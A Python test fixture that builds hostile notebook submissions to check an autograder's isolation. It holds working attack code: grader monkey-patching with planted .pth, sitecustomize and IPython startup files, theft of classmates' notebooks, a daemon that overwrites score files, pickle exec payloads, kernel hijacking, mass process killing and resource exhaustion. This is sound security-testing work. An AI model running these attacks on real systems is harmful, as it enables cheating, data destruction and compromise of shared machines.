"""Hostile submissions, one per attack category of issue #11, built from the committed
``00_start_here`` learner notebook (see grading_fixtures.py).

Each is written as a learner with bad intent would write it: the attack code is appended to
the blank notebook (so without the attack it would score 0, like a blank notebook). Every
file an attack plants, every process it leaves and every kernel it hijacks carries ``TOKEN``
(substituted at build time), so the test can look for it afterwards.
"""

from __future__ import annotations

from pathlib import Path

import grading_fixtures as fx
import nbformat

REWRITE_CHECKERS = r'''
import os, site, sys
import mlserving_lab
import mlserving_lab.course.exercises.core as core
import mlserving_lab.course.exercises.l00_start_here as ex

PATCH = ("\nimport mlserving_lab.course.exercises.core as _c  # TOKEN\n"
         "_c.Question.evaluate = lambda self, *a, **k: _c.CheckResult(self.name, 'correct', "
         "'pwned', points=self.points, max_points=self.points, exercise=self.exercise)\n")
targets = [ex.__file__, core.__file__, mlserving_lab.__file__]
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write(PATCH)
        print("rewrote", path)
    except OSError as exc:
        print("could not rewrite", path, exc)
    cache = os.path.join(os.path.dirname(path), "__pycache__")
    try:
        for name in os.listdir(cache):
            with open(os.path.join(cache, name), "wb") as fh:
                fh.write(b"TOKEN")
    except OSError as exc:
        print("could not poison", cache, exc)
dirs = set(site.getsitepackages()) | {site.getusersitepackages(), os.path.dirname(os.__file__)}
for d in dirs:
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "zz_TOKEN.pth"), "w") as fh:
            fh.write("import mlserving_lab.course.exercises.core as _c; _c.Question.evaluate = "
                     "lambda self, *a, **k: _c.CheckResult(self.name, 'correct', 'pwned', "
                     "points=self.points, max_points=self.points)\n")
        with open(os.path.join(d, "sitecustomize.py"), "a") as fh:
            fh.write("# TOKEN\n" + PATCH)
        print("planted in", d)
    except OSError as exc:
        print("could not plant in", d, exc)
# And in this kernel, in case the grader reads verdicts from here.
core.Question.evaluate = lambda self, *a, **k: core.CheckResult(
    self.name, "correct", "pwned", points=self.points, max_points=self.points,
    exercise=self.exercise)
'''

COPY_CLASSMATES = r'''
import glob, json, os
import mlserving_lab

found = set()
for p in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
    try:
        parts = open(p, "rb").read().decode(errors="replace").replace("=", "\0").split("\0")
    except OSError:
        continue
    for arg in parts:
        if arg.endswith((".ipynb", ".json")) or os.path.isdir(arg):
            found.add(arg)
here = os.getcwd()
roots = {here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp",
         os.path.join(os.path.dirname(os.path.dirname(mlserving_lab.__file__)), "solutions")}
roots |= {f if os.path.isdir(f) else os.path.dirname(f) for f in found}
notebooks = set()
for root in roots:
    notebooks |= set(glob.glob(os.path.join(root, "*.ipynb")))
    notebooks |= set(glob.glob(os.path.join(root, "*", "*.ipynb")))
stolen = 0
for path in sorted(notebooks):
    try:
        nb = json.load(open(path))
    except (OSError, ValueError):
        continue
    for cell in nb.get("cells", []):
        src = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and "____" not in src and ".check(" not in src:
            try:
                exec(src, globals())
                stolen += 1
            except Exception:
                pass
print("notebooks seen:", sorted(notebooks), "cells stolen:", stolen)
'''

SURVIVOR = r'''
import glob, os, subprocess, sys, time

def rewrite_everything():
    for cwd in glob.glob("/proc/*/cwd"):
        try:
            root = os.readlink(cwd)
        except OSError:
            continue
        for f in glob.glob(os.path.join(root, "*.csv")) + glob.glob(os.path.join(root, "**", "*.csv"), recursive=True):
            try:
                open(f, "w").write("student,score\nTOKEN,100\n")
            except OSError:
                pass
        for f in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True):
            try:
                open(f, "w").write("TOKEN")
            except OSError:
                pass
    try:
        open("/tmp/TOKEN-daemon-alive", "w").write(str(time.time()))
    except OSError:
        pass

pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        for _ in range(120):   # a minute of trying
            rewrite_everything()
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen(["sh", "-c", "exec -a TOKEN-sleeper sleep 600"], env={},
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

STARTUP_FILES = r'''
import os
payload = ("import numpy as _np  # TOKEN\n_np.mean = lambda *a, **k: -1.0\n"
           "open('/tmp/TOKEN-startup-ran', 'w').write('ran')\n")
homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", "/home",
         os.environ.get("IPYTHONDIR", "")}
for base in homes:
    if not base:
        continue
    for d in (os.path.join(base, ".ipython", "profile_default", "startup"),
              os.path.join(base, "profile_default", "startup")):
        try:
            os.makedirs(d, exist_ok=True)
            open(os.path.join(d, "00-TOKEN.py"), "w").write(payload)
            print("planted", d)
        except OSError as exc:
            print("refused", d, exc)
    try:
        os.makedirs(os.path.join(base, ".jupyter"), exist_ok=True)
        open(os.path.join(base, ".jupyter", "jupyter_config.py"), "w").write(
            "# TOKEN\nc.KernelManager.kernel_cmd = ['false']\n")
    except OSError:
        pass
'''

UNPICKLE = r'''
PAYLOAD = """
import glob
import mlserving_lab.course.exercises.core as c
c.Question.evaluate = lambda self, *a, **k: c.CheckResult(self.name, 'correct', 'pwned',
    points=self.points, max_points=self.points, exercise=self.exercise)
for f in glob.glob('/proc/*/cwd/*.csv') + glob.glob('/proc/*/cwd/*/*.csv'):
    try:
        open(f, 'w').write('student,score\\nTOKEN,100\\n')
    except OSError:
        pass
try:
    open('/tmp/TOKEN-unpickled', 'w').write('ran')
except OSError:
    pass
"""

class Payload(float):
    def __reduce__(self):
        return (exec, (PAYLOAD,))

class FunctionPayload:
    def __reduce__(self):
        return (exec, (PAYLOAD,))
    def __call__(self, *args, **kwargs):
        return 0.75

mean_ms = Payload(0.0)
p50_ms, p99_ms = Payload(1.0), Payload(2.0)

def within_budget(latencies_ms, budget_ms):
    return FunctionPayload()
'''

LIARS = r'''
import numpy as np

class RandomForestClassifier:
    """Not sklearn's."""
    def predict(self, X):
        return np.zeros(len(X))
RandomForestClassifier.__module__ = "sklearn.ensemble._forest"

class LyingFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return LyingFloat(0.0)
    def __rsub__(self, other): return LyingFloat(0.0)
    def __abs__(self): return LyingFloat(0.0)
    def __float__(self): return float(np.mean(LATENCIES_MS))
    __hash__ = float.__hash__

class LyingStr(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__

mean_ms = LyingFloat(-5.0)
p50_ms, p99_ms = LyingFloat(-1.0), LyingFloat(-2.0)

def within_budget(latencies_ms, budget_ms):
    return RandomForestClassifier()    # "a fitted sklearn model", supposedly
'''

HIJACK = r'''
import glob, os, time
from jupyter_client import BlockingKernelClient
try:
    from ipykernel import get_connection_file
    own = os.path.realpath(get_connection_file())
except Exception:
    own = ""
done = set()
deadline = time.time() + 8
CODE = ("mean_ms = -1.0\np50_ms = p99_ms = -1.0\n"
        "def within_budget(latencies_ms, budget_ms):\n    return -1.0\n"
        "open('/tmp/TOKEN-hijacked', 'w').write('hijacked')\n")
while time.time() < deadline:
    paths = set()
    for pattern in ("/tmp/**/kernel-*.json", "/run/user/**/kernel-*.json",
                    os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"),
                    "/root/.local/share/jupyter/runtime/kernel-*.json"):
        paths |= {os.path.realpath(p) for p in glob.glob(pattern, recursive=True)}
    for cmd in glob.glob("/proc/*/cmdline"):
        try:
            args = open(cmd, "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        paths |= {os.path.realpath(a) for a in args if a.endswith(".json") and "kernel" in a}
    for path in sorted(paths - done - {own}):
        done.add(path)
        try:
            kc = BlockingKernelClient(connection_file=path)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(CODE)
            print("hijacked", path)
        except Exception as exc:
            print("could not hijack", path, exc)
    time.sleep(0.2)
print("connection files seen:", sorted(done))
'''

STOP_THE_BATCH = r'''
import glob, os, signal
me = os.getpid()
for p in glob.glob("/proc/[0-9]*"):
    pid = int(p.rsplit("/", 1)[1])
    if pid in (me, 1):
        continue
    for sig in (signal.SIGINT, signal.SIGTERM):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
for pgid in (0, os.getpgid(os.getppid())):
    try:
        os.killpg(pgid, signal.SIGINT)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGINT)
except OSError:
    pass
'''

LIMITS = r'''
import os, resource, socket, subprocess
import numpy as np
for which in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE,
              resource.RLIMIT_CPU):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError) as exc:
        print("cannot raise", which, exc)
try:
    hog = np.empty(2**33)      # 64 GB of address space
    print("allocated 64 GB")
except MemoryError:
    print("memory capped")
try:
    with open("/tmp/TOKEN-big", "wb") as fh:
        for _ in range(4096):
            fh.write(b"\0" * (1 << 20))   # 4 GB
    print("wrote 4 GB")
except OSError as exc:
    print("disk capped", exc)
try:
    os.remove("/tmp/TOKEN-big")
except OSError:
    pass
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"TOKEN")
    print("connected to localhost")
except OSError as exc:
    print("no network", exc)
children = []
try:
    for _ in range(2000):
        children.append(subprocess.Popen(["sleep", "60"]))
    print("started 2000 processes")
except OSError as exc:
    print("process cap", len(children), exc)
for c in children:
    c.kill()
'''

ATTACKS = {
    "rewrite_checkers": REWRITE_CHECKERS,
    "copy_classmates": COPY_CLASSMATES,
    "survivor": SURVIVOR,
    "startup_files": STARTUP_FILES,
    "unpickle": UNPICKLE,
    "liars": LIARS,
    "hijack": HIJACK,
    "limits": LIMITS,
    "stop_the_batch": STOP_THE_BATCH,
}


def build_hostile_set(folder, token: str, port: int) -> list[Path]:
    """Write one notebook per attack into ``folder``; return their paths (attack order)."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i, (name, code) in enumerate(ATTACKS.items()):
        nb = fx.blank_notebook(fx.START_HERE)
        code = code.replace("TOKEN", token).replace("PORT", str(port))
        if name in ("unpickle", "liars"):
            # These answer every question (with hostile objects) instead of leaving ____.
            fx._set_answer(nb, fx.Q1, code)
            fx._set_answer(nb, fx.Q2, "")
            fx._set_answer(nb, fx.Q3, "")
        else:
            fx._append(nb, code)
        path = folder / f"a{i}_{name}.ipynb"
        nbformat.write(nb, path)
        paths.append(path)
    return paths
